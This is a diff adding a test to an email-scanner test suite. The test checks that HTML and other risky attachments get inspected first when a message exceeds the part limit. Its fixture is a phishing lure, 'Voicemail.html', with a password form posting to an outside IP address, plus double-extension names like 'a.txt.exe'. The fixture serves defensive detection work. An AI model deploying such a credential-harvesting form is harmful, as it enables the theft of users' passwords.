@@ -4,6 +4,7 @@ import { deflateSync } from 'node:zlib';
 import fc from 'fast-check';
 import { pdfLinks, uriAt } from '../../lib/attachments/pdf-links.js';
 import { calendarLinks, unescapeText } from '../../lib/attachments/calendar-links.js';
+import { opensAsPlain } from '../../lib/attachments/priority.js';
 import { buildConfig } from '../../lib/config/load.js';
 import { analyze, archiveInspection } from '../../lib/scan.js';
 import { extractScanInput, inspectArchives } from '../../lib/message/extract.js';
@@ -58,6 +59,37 @@ describe('attachment heuristics', () => {
       ['ATTACHMENT_HTML_ACTIVE'],
     );
     assert.deepEqual(await codes('newsletter.html', Buffer.from('<h1>Hello</h1><p>Plain page.</p>'), 'text/html'), []);
+  });
+
+  it('examines the attachments a client opens as more than text or a picture first when there are more than max_parts', async () => {
+    const part = (name: string, type: string, body: string): string =>
+      `--p\nContent-Type: ${type}; name="${name}"\nContent-Disposition: attachment; filename="${name}"\n\n${body}\n`;
+    const pad = Array.from({ length: 600 }, (_, i) => part(`note${i}.txt`, 'text/plain', 'x')).join('');
+    const lure = part('Voicemail.html', 'text/html', '<form action="https://45.33.32.156/c.php"><input type="password" name="p"></form>');
+    const raw = toCrlf(`From: a@example.com\nContent-Type: multipart/mixed; boundary="p"\n\n${pad}${lure}--p--\n`);
+    const input = await extractScanInput(raw, { mailFrom: '', rcptTo: ['bob@example.org'] }, config.limits);
+    assert.equal(input.attachments.length, config.limits.max_parts);
+    assert.ok(input.limits.some((l) => l.code === 'LIMIT_PARTS'));
+    const html = input.attachments.find((a) => a.filename === 'Voicemail.html');
+    assert.deepEqual(html?.active, { forms: 1, passwordFields: 1, scripts: 0 });
+    assert.ok(input.urls.some((u) => u.host === '45.33.32.156' && u.source === 'attachment'));
+    // The examined ones stay in the message's order: the first 499 notes, then the page.
+    assert.equal(input.attachments[0].filename, 'note0.txt');
+    assert.equal(input.attachments.at(-1)?.filename, 'Voicemail.html');
+    // Shown as text or a picture: by declared type and every extension of the name.
+    assert.deepEqual(
+      [
+        ['a.txt', 'text/plain'],
+        [null, 'text/plain'],
+        ['scan.JPG', 'image/jpeg'],
+        ['a.txt.exe', 'text/plain'],
+        ['a.html', 'text/plain'],
+        ['invoice.pdf', 'image/png'],
+        ['logo.svg', 'image/svg+xml'],
+        ['a.txt', 'application/octet-stream'],
+      ].map(([filename, mimeType]) => opensAsPlain({ filename, mimeType: mimeType! })),
+      [true, true, true, false, false, false, false, false],
+    );
   });
 
   it('analyses the links inside an HTML attachment like links in the body', async () => {
